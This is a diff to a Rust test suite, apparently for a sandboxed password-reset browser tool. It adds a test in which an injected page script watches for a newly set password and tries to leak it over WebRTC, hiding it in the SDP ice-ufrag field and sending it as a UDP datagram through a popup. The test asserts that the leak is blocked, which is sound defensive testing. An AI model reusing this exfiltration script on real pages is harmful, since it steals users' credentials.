@@ -405,8 +405,8 @@ fn a_dialog_of_the_page_s_own_never_hangs_and_is_accepted_only_after_confirmer()
 
 /// A portal (or a CDN's script) that tries to send the page elsewhere with
 /// what fetch and XHR are not: a WebSocket, a shared worker from a `data:`
-/// address, a service worker, WebRTC. Nothing reaches the other origin,
-/// and the run goes on. (A worker's fetch is paused as any other request:
+/// address, a service worker, WebRTC, WebRTC from a popup. Nothing reaches
+/// the other origin, and the run goes on. (A worker's fetch is paused as any other request:
 /// refused, and the run stops, as for an XHR.)
 #[test]
 fn a_page_s_script_reaches_no_other_origin_by_sockets_or_workers() {
@@ -425,6 +425,26 @@ fn a_page_s_script_reaches_no_other_origin_by_sockets_or_workers() {
          try {{ navigator.serviceWorker.register('/sw.js'); }} catch (e) {{}}\
          try {{ var pc = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{elsewhere}'}}]}}); pc.createDataChannel('x'); pc.createOffer().then(function (o) {{ pc.setLocalDescription(o); }}); }} catch (e) {{}}"
     );
+    // Through a popup opened on a click (the removal was in the session's
+    // page only), WebRTC sends the new password to a UDP address.
+    let popup = r#"
+(function () {
+  function pw() { var p = document.getElementById('password'); return p && p.textContent ? p.textContent : null; }
+  document.addEventListener('click', function () { window.open('', 'x'); }, true);
+  function leak() {
+    var w = window.open('', 'x'); if (!w) return;
+    var pc = new w.RTCPeerConnection({iceServers: []}); pc.createDataChannel('d');
+    pc.createOffer().then(function (o) { return pc.setLocalDescription(o).then(function () {
+      return pc.setRemoteDescription({type: 'answer', sdp: o.sdp.replace(/a=ice-ufrag:.*/g, 'a=ice-ufrag:PW' + pw())
+        .replace(/a=ice-pwd:.*/g, 'a=ice-pwd:abcdefghijklmnopqrstuvwx').replace(/a=setup:actpass/g, 'a=setup:active')}); }); })
+    .then(function () { return pc.addIceCandidate({candidate: 'candidate:1 1 udp 2122260223 ADDR PORT typ host', sdpMid: '0', sdpMLineIndex: 0}); });
+  }
+  var mo = new MutationObserver(function () { if (pw()) { mo.disconnect(); leak(); } });
+  mo.observe(document.documentElement, {subtree: true, childList: true, characterData: true});
+})();"#
+        .replace("ADDR", &elsewhere.ip().to_string())
+        .replace("PORT", &elsewhere.port().to_string());
+    let script = format!("{script}{popup}");
     let Setup {
         dir,
         sim,
@@ -444,9 +464,11 @@ fn a_page_s_script_reaches_no_other_origin_by_sockets_or_workers() {
         "a connection reached the other origin"
     );
     let mut buf = [0u8; 512];
+    let received = udp.recv(&mut buf);
     assert!(
-        udp.recv(&mut buf).is_err(),
-        "a datagram reached the other origin"
+        received.is_err(),
+        "a datagram reached the other origin: {:?}",
+        received.map(|n| String::from_utf8_lossy(&buf[..n]).into_owned())
     );
     assert_eq!(
         assert_exact_passwords(&identity, &output, &sim.resets()).len(),
